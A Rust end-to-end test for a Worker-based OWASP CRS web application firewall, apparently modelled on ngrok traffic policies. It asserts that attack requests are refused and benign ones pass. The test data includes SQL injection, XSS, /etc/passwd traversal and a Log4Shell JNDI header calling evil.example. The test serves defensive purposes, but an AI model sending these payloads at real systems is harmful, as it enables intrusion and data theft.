//! End to end: `owasp-crs-request` / `owasp-crs-response` (the WAF, `docs/waf.md`) in the real
//! Worker under `wrangler dev` (workerd) in front of the demo origins. First policies/acme as
//! shipped (the reference guide's OWASP actions at the Cloud Endpoint): attacks are 403
//! `ERR_NGROK_3700` naming their rules, benign requests reach their pool. Then a policy with
//! `on_error: continue` whose later rule answers with the rule ids, bodies inspected, and a
//! response leak (the origin's `/__body/echo` sends back a SQL error) refused with
//! `ERR_NGROK_3702`. Runs when `EDGE_GATEWAY_E2E=1`.

use crate::support::stack::{next_client_ip, Reply, Stack};
use sha2::{Digest, Sha256};
use std::time::Duration;

const POLICY: &str = r#"
on_http_request:
  - expressions: ["req.url.path == '/ready'"]
    actions:
      - type: custom-response
        config: {body: "VERSION"}
  - expressions: ["req.url.path.startsWith('/report')"]
    actions:
      - type: owasp-crs-request
        config: {on_error: continue, process_body: true}
      - type: custom-response
        config:
          status_code: 200
          headers:
            x-decision: "${actions.ngrok.owasp_crs_request.decision}"
            x-score: "${actions.ngrok.owasp_crs_request.anomaly_score}"
          body: "${actions.ngrok.owasp_crs_request.matched_rules.map(r, r.id)}"
  # The response WAF alone: the echo origin sends back what it is given.
  - expressions: ["req.url.path == '/__body/echo'"]
    actions:
      - type: forward-internal
        config: {url: "https://catalog-eks.internal"}
  - actions:
      - type: owasp-crs-request
        config: {process_body: true}
      - type: forward-internal
        config: {url: "https://catalog-eks.internal"}
on_http_response:
  # Twice, as when an internal endpoint's policy and the public one both inspect the response:
  # the second reads the first bytes of the body the first one sent on.
  - expressions: ["req.url.path == '/__body/echo'"]
    actions:
      - type: owasp-crs-response
        config: {process_body: true}
      - type: owasp-crs-response
        config: {process_body: true, body_limit: 8192}
"#;

/// A path, extra headers, and a rule id (or prefix) the refusal must name.
type Attack<'a> = (&'a str, &'a [(&'a str, &'a str)], &'a str);

fn send(stack: &Stack, method: &str, path: &str, headers: &[(&str, &str)], body: &str) -> Reply {
    let ip = next_client_ip();
    let mut all: Vec<(&str, &str)> = vec![
        ("CF-Connecting-IP", ip.as_str()),
        ("X-Acme-Api", "catalog-eks"),
        (
            "User-Agent",
            "Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0",
        ),
        ("Accept", "*/*"),
    ];
    all.extend_from_slice(headers);
    stack
        .send(&Stack::agent(), method, path, &all, body.as_bytes())
        .unwrap_or_else(|e| panic!("{method} {path}: {e}"))
}

fn assert_blocked(r: &Reply, code: &str, rule: &str, what: &str) {
    assert_eq!(r.status, 403, "{what}: {}", r.body);
    assert_eq!(r.header("ngrok-error-code"), Some(code), "{what}");
    assert!(
        r.body.contains(rule),
        "{what}: rule {rule} not in {}",
        r.body
    );
}

#[test]
fn waf_end_to_end() {
    if !crate::support::stack::e2e_enabled() {
        return;
    }
    let stack = Stack::start(&[("POLICY_REFRESH_SECONDS", "1")]);

    // policies/acme as shipped.
    let acme = stack.acme_copy("acme", |t| t);
    stack.upload(&[&acme]);
    stack.wait_until("the Acme policy is live", Duration::from_secs(30), |s| {
        s.get("/", &[("X-Acme-Api", "catalog-eks")])
            .is_ok_and(|r| r.status == 200)
    });
    let attacks: [Attack; 4] = [
        ("/items?q=1%27%20OR%20%271%27%3D%271", &[], "942100"),
        (
            "/items?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
            &[],
            "941100",
        ),
        ("/download?file=..%2F..%2F..%2Fetc%2Fpasswd", &[], "930"),
        (
            "/items",
            &[("X-Api-Version", "${jndi:ldap://evil.example/a}")],
            "944150",
        ),
    ];
    for (path, headers, rule) in attacks {
        let r = send(&stack, "GET", path, headers, "");
        assert_blocked(&r, "ERR_NGROK_3700", rule, path);
    }
    for path in [
        "/",
        "/items?page=2&sort=price",
        "/items?q=O%27Brien+select+a+plan",
    ] {
        let r = send(&stack, "GET", path, &[], "");
        assert_eq!(r.status, 200, "{path}: {}", r.body);
        assert_eq!(
            r.json()["api"],
            "catalog",
            "{path} reached the catalog pool"
        );
    }

    // A policy with report-only, bodies and the response action.
    let dir = stack.acme_copy("waf", |t| t);
    std::fs::write(
        dir.join("cloud-endpoint.yaml"),
        POLICY.replace("VERSION", "v1"),
    )
    .unwrap();
    stack.upload(&[&dir]);
    stack.wait_until("the WAF policy is live", Duration::from_secs(30), |s| {
        s.get("/ready", &[("X-Acme-Api", "catalog-eks")])
            .is_ok_and(|r| r.body == "v1")
    });

    // on_error: continue: a later rule answers with the verdict and the rule ids.
    let r = send(
        &stack,
        "GET",
        "/report?q=1%27%20UNION%20SELECT%20password%20FROM%20users--",
        &[],
        "",
    );
    assert_eq!(r.status, 200, "{}", r.body);
    assert_eq!(r.header("x-decision"), Some("deny"));
    assert!(r.body.contains("942100"), "{}", r.body);
    // (Under wrangler dev the Host is an IP address: CRS's 920350, a warning, may be listed.)
    let r = send(&stack, "GET", "/report?q=running+shoes", &[], "");
    assert_eq!((r.status, r.header("x-decision")), (200, Some("allow")));
    assert!(!r.body.contains("942"), "{}", r.body);

    // process_body: an injection in a JSON body is refused; a benign body reaches the origin
    // byte for byte.
    let json = [("Content-Type", "application/json")];
    let r = send(
        &stack,
        "POST",
        "/api/orders",
        &json,
        r#"{"note": "x' OR 1=1 --"}"#,
    );
    assert_blocked(&r, "ERR_NGROK_3700", "942100", "JSON body injection");
    let benign = r#"{"sku": "A-1", "qty": 2, "note": "leave it at the door, O'Brien"}"#;
    let r = send(&stack, "POST", "/api/orders", &json, benign);
    assert_eq!(r.status, 200, "{}", r.body);
    assert_eq!(r.json()["body_bytes"], benign.len());

    // A content type CRS does not allow by default (text/plain) is refused by 920420, as in
    // ngrok's Coraza.
    let text = [("Content-Type", "text/plain")];
    let r = send(&stack, "POST", "/api/orders", &text, "order 42");
    assert_blocked(&r, "ERR_NGROK_3700", "920420", "text/plain request body");

    // owasp-crs-response: the origin echoes a SQL error; the client gets a 403 instead.
    let leak = "You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version for the right syntax to use near '' at line 1";
    let r = send(&stack, "POST", "/__body/echo", &text, leak);
    assert_blocked(&r, "ERR_NGROK_3702", "951230", "leaked MySQL error");
    let r = send(&stack, "POST", "/__body/echo", &text, "order 42 confirmed");
    assert_eq!((r.status, r.body.as_str()), (200, "order 42 confirmed"));

    // Bodies past the 8 MiB an action may buffer: the WAF reads their first 4 KB (body_limit)
    // and the rest streams through unread, so a 9 MiB upload reaches the origin byte for byte
    // and a 9 MiB answer reaches the client whole, with its Content-Length.
    let big = format!("note={}", "a".repeat(9 << 20));
    let form = [("Content-Type", "application/x-www-form-urlencoded")];
    let r = send(&stack, "POST", "/api/orders", &form, &big);
    assert_eq!(r.status, 200, "{}", &r.body[..r.body.len().min(500)]);
    assert_eq!(r.json()["body_bytes"], big.len());
    let sha = format!("{:x}", Sha256::digest(big.as_bytes()));
    assert_eq!(r.json()["body_sha256"], sha.as_str());
    let r = send(&stack, "POST", "/__body/echo", &text, &big);
    assert_eq!(r.status, 200, "{}", &r.body[..r.body.len().min(500)]);
    assert!(r.body == big, "the 9 MiB echo came back changed");
    let length = big.len().to_string();
    assert_eq!(r.header("content-length"), Some(length.as_str()));
    // ... and a leak in those first 4 KB is still caught.
    let r = send(
        &stack,
        "POST",
        "/__body/echo",
        &text,
        &format!("{leak} {big}"),
    );
    assert_blocked(&r, "ERR_NGROK_3702", "951230", "leak before 9 MiB");
}
